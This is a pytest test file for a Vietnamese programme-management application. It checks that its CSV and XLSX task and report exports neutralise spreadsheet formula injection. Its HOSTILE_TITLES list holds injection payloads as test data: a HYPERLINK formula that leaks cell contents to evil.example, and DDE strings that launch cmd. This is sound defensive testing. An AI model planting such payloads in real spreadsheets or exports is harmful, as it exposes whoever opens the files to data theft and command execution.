"""Issue 11.4: text that starts like a formula is exported as text, in CSV and XLSX alike."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from ketnoi.core.exports import csv_text, neutralise, xlsx_bytes
from ketnoi.orgs.services import token_create
from ketnoi.programmes.models import Programme, Task

HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def programme(db):
    return Programme.objects.get(code="ctph-922-2024")


@pytest.fixture
def hostile_tasks(client, users, programme):
    """Tasks whose titles a manager typed through the API."""
    key = token_create(user=users["admin"], name="export")[1]
    template = Task.objects.filter(programme=programme).select_related("content_area", "lead_agency").first()
    for number, title in enumerate(HOSTILE_TITLES, start=1):
        response = client.post(
            f"/api/v1/programmes/{programme.code}/tasks",
            {
                "content_area": template.content_area.code,
                "code": f"9.{number}",
                "title_vi": title,
                "lead_agency": template.lead_agency.code,
                "deliverable": "=1+1",
            },
            content_type="application/json",
            HTTP_AUTHORIZATION=f"Bearer {key}",
        )
        assert response.status_code == 201, response.content
    # As stored: the service trims the leading tab or carriage return, the formula stays.
    return [Task.objects.get(programme=programme, code=f"9.{n}").title_vi for n in range(1, len(HOSTILE_TITLES) + 1)]


def test_csv_export_neutralises_formulas(login, programme, hostile_tasks):
    client = login("admin")
    text = client.get(f"/programmes/{programme.code}/tasks/?format=csv").content.decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    exported = {row["Mã nhiệm vụ"]: row for row in rows}
    for number, title in enumerate(hostile_tasks, start=1):
        row = exported[f"9.{number}"]
        assert row["Nhiệm vụ"] == "'" + title
        assert row["Sản phẩm"] == "'=1+1"
    assert not any(value[:1] in "=+-@\t\r" for row in rows for value in row.values() if value)


def test_xlsx_export_has_no_formula_cells(login, programme, hostile_tasks):
    client = login("admin")
    content = client.get(f"/programmes/{programme.code}/tasks/?format=xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    titles = {}
    for row in sheet.iter_rows(min_row=2):
        assert all(cell.data_type != "f" for cell in row), [c.value for c in row]
        titles[row[0].value] = row[header.index("Nhiệm vụ")].value
    for number, title in enumerate(hostile_tasks, start=1):
        assert titles[f"9.{number}"] == "'" + title


def test_report_export_writes_numbers_as_numbers(login, programme):
    client = login("tinh.laocai")
    content = client.get(f"/programmes/{programme.code}/reports/?period=2025Q2&format=xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header = [cell.value for cell in sheet[1]]
    values = [row[header.index("Giá trị")] for row in sheet.iter_rows(min_row=2, values_only=True)]
    numbers = [v for v in values if v not in (None, "")]
    assert numbers and all(isinstance(v, int | float) for v in numbers), numbers


def test_numbers_and_plain_numeric_text_stay_as_they_are():
    assert neutralise(-5) == -5 and neutralise(Decimal("-2.50")) == Decimal("-2.50") and neutralise(-1.5) == -1.5
    assert neutralise("-12") == "-12" and neutralise("+3.5") == "+3.5" and neutralise("Thôn Mới") == "Thôn Mới"
    assert neutralise("-12 + A1") == "'-12 + A1" and neutralise("@A1") == "'@A1"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(["n", "t"], [[-7, "=A1"]]))).active
    assert sheet["A2"].value == -7 and sheet["A2"].data_type == "n"
    assert sheet["B2"].value == "'=A1" and sheet["B2"].data_type == "s"
    assert csv_text(["n"], [[-7], ["=A1"]]).splitlines() == ["n", "-7", "'=A1"]
